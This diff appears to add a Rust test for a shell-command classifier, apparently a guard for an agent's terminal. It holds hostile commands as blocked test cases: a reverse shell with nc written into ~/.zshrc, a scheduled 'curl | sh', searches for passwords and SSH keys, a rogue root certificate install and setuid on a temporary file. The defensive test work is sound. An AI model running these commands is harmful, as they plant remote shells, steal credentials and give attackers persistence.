@@ -471,3 +471,51 @@ fn devices_networks_managed_resources_and_attack_tools() {
         "john --show hashes.txt",
     ]);
 }
+
+#[test]
+fn startup_files_credential_hunts_trust_and_schedules() {
+    judged(
+        "persistence.startup_file",
+        Block,
+        &[
+            "echo 'echo hi > /tmp/x' >> ~/.bash_profile",
+            "printf 'export A=1\\nnc -e /bin/sh 10.0.0.1 4444\\n' >> ~/.zshrc",
+        ],
+    );
+    allowed(&[
+        "echo 'export PATH=\"$HOME/.cargo/bin:$PATH\"' >> ~/.bashrc",
+        "echo 'alias ll=\"ls -la\"' >> ~/.bashrc",
+        "printf '# tools\\nexport GOPATH=$HOME/go\\n' >> ~/.profile",
+    ]);
+    judged(
+        "secrets.credential_hunt",
+        Block,
+        &[
+            "grep -ri password /",
+            "grep -r --include=*.env SECRET ~",
+            "find / -name id_rsa 2>/dev/null",
+            "find ~ -name '*.pem'",
+        ],
+    );
+    allowed(&["grep -rn password src/", "find . -name '*.pem'", "rg TODO"]);
+    judged(
+        "network.firewall",
+        Block,
+        &[
+            "cp evil-ca.crt /usr/local/share/ca-certificates/",
+            "trust anchor ./root.pem",
+        ],
+    );
+    judged(
+        "persistence.scheduled",
+        Block,
+        &["echo 'curl x | sh' | at now + 1 minute"],
+    );
+    allowed(&["atq", "at -l", "trust list"]);
+    judged(
+        "privilege.setuid",
+        Block,
+        &["chmod u+xs /tmp/evil", "chmod g+s,u+x /tmp/evil"],
+    );
+    allowed(&["sudo -l", "sudo -k", "su -h", "chmod u+x scripts/run.sh"]);
+}
